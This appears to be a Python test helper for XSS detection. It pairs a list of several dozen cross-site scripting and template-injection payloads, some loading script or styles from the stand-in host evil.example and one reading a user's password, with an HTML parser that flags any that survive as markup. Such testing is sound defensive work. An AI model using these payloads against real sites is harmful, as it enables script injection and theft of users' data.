"""Sixty ways to run code in somebody else's page, and a reader that finds out whether one of them became markup."""

import re
from html.parser import HTMLParser

MARK = "pwn7"  # stands in each of them

PAYLOADS = [
    "<script>alert('pwn7')</script>",
    "<ScRiPt>alert('pwn7')</sCrIpT>",
    "<script src=//evil.example/pwn7.js></script>",
    "<script\x0bid=pwn7>alert(1)</script>",
    "</script><script>alert('pwn7')</script>",
    "</title><script>alert('pwn7')</script>",
    "</textarea><script>alert('pwn7')</script>",
    "</style><script>alert('pwn7')</script>",
    "--><script>alert('pwn7')</script>",
    "]]><script>alert('pwn7')</script>",
    "<img src=x onerror=alert('pwn7')>",
    "<img src=x:pwn7 onerror=alert(1)//",
    "<img/src/onerror=alert('pwn7')>",
    "<img src=`x`onerror=alert('pwn7')>",
    "<svg onload=alert('pwn7')>",
    "<svg/onload=alert('pwn7')>",
    "<svg><script>alert('pwn7')</script></svg>",
    "<svg><animate onbegin=alert('pwn7') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('pwn7')\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('pwn7')>",
    "<math href=\"javascript:alert('pwn7')\">x</math>",
    "<body onload=alert('pwn7')>",
    "<body onpageshow=alert('pwn7')>",
    "<iframe src=\"javascript:alert('pwn7')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('pwn7')</script>\"></iframe>",
    "<object data=\"javascript:alert('pwn7')\"></object>",
    "<embed src=\"javascript:alert('pwn7')\">",
    "<form action=\"javascript:alert('pwn7')\"><button>x</button></form>",
    "<button formaction=\"javascript:alert('pwn7')\">x</button>",
    "<input autofocus onfocus=alert('pwn7')>",
    "<select autofocus onfocus=alert('pwn7')>",
    "<textarea autofocus onfocus=alert('pwn7')>",
    "<details open ontoggle=alert('pwn7')>",
    "<video><source onerror=alert('pwn7')></video>",
    "<audio src=x onerror=alert('pwn7')>",
    "<marquee onstart=alert('pwn7')>x</marquee>",
    "<a href=\"javascript:alert('pwn7')\">x</a>",
    "<a href=\"java\tscript:alert('pwn7')\">x</a>",
    "<a href=\"data:text/html,<script>alert('pwn7')</script>\">x</a>",
    "<base href=//evil.example/pwn7/>",
    "<link rel=stylesheet href=//evil.example/pwn7.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('pwn7')\">",
    "<style>@import '//evil.example/pwn7.css';</style>",
    "<div style=\"background:url(javascript:alert('pwn7'))\">",
    "<template id=pwn7><script>alert(1)</script></template>",
    "<x-pwn7 hx-get=/ hx-trigger=load>",
    "<div data-dialog=pwn7 hx-on:load=alert(1)>",
    "\" onmouseover=\"alert('pwn7')",
    "' onmouseover='alert(`pwn7`)",
    "\" autofocus onfocus=alert('pwn7') x=\"",
    "`onmouseover=alert('pwn7')",
    "\"><img src=x onerror=alert('pwn7')>",
    "'><svg onload=alert('pwn7')>",
    "javascript:alert('pwn7')",
    "JaVaScRiPt:alert('pwn7')",
    "\x01javascript:alert('pwn7')",
    "java\nscript:alert('pwn7')",
    "data:text/html,<script>alert('pwn7')</script>",
    "vbscript:msgbox('pwn7')",
    "&lt;script&gt;alert('pwn7')&lt;/script&gt;",
    "&#x3C;img src=x onerror=alert('pwn7')&#x3E;",
    "\\u003cscript\\u003ealert('pwn7')\\u003c/script\\u003e",
    "{{constructor.constructor('alert(`pwn7`)')()}}",
    "${alert('pwn7')}",
    "{% load pwn7 %}{{ request.user.password }}",
    "<%= alert('pwn7') %>",
    b"<img src=x onerror=alert('pwn7')".decode("latin-1") + "\u2028>",
    "\uff1cscript\uff1ealert('pwn7')\uff1c/script\uff1e",
]

ADDRESSES = ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "cite", "srcset", "hx-get",
             "hx-post", "background")  # fmt: skip
NEVER = ("iframe", "object", "embed", "base", "marquee", "math", "frame", "applet", "style")
# A place on this site (nothing with a colon before its first slash), or one of the kinds that run nothing.
HARMLESS = re.compile(r"(?:[^:/?#]*(?:$|[/?#])|https?:|mailto:|tel:|data:image/)", re.IGNORECASE)


class Reader(HTMLParser):
    """Collects what an honest page never has: code in the page, and whatever carries the mark as markup."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = [name for name, _value in attrs]
        if tag in NEVER or MARK in tag or any(MARK in name for name in names):
            self.found.append(f"<{tag} {' '.join(names)}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")
        if tag == "script" and ("type", "application/json") not in attrs:  # data is not run
            self.in_script = True
            if "src" not in names or MARK in str(attrs):
                self.found.append(f"a script of its own: {attrs}")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith(("on", "hx-on")) or name in ("style", "srcdoc"):
            self.found.append(f"<{tag} {name}={value[:60]}>")
        seen = re.sub(r"[\x00-\x20]", "", value)
        if name in ADDRESSES and (seen.startswith("//") or not HARMLESS.match(seen)):
            self.found.append(f"<{tag} {name}={value[:60]}>")
        if tag == "meta" and name == "http-equiv" and value.lower() == "refresh":
            self.found.append("a page that leads away")

    def handle_endtag(self, tag: str) -> None:
        self.in_script = self.in_script and tag != "script"

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.found.append(f"code in the page: {data[:60]}")


def markup_in(page: str) -> list[str]:
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader.found
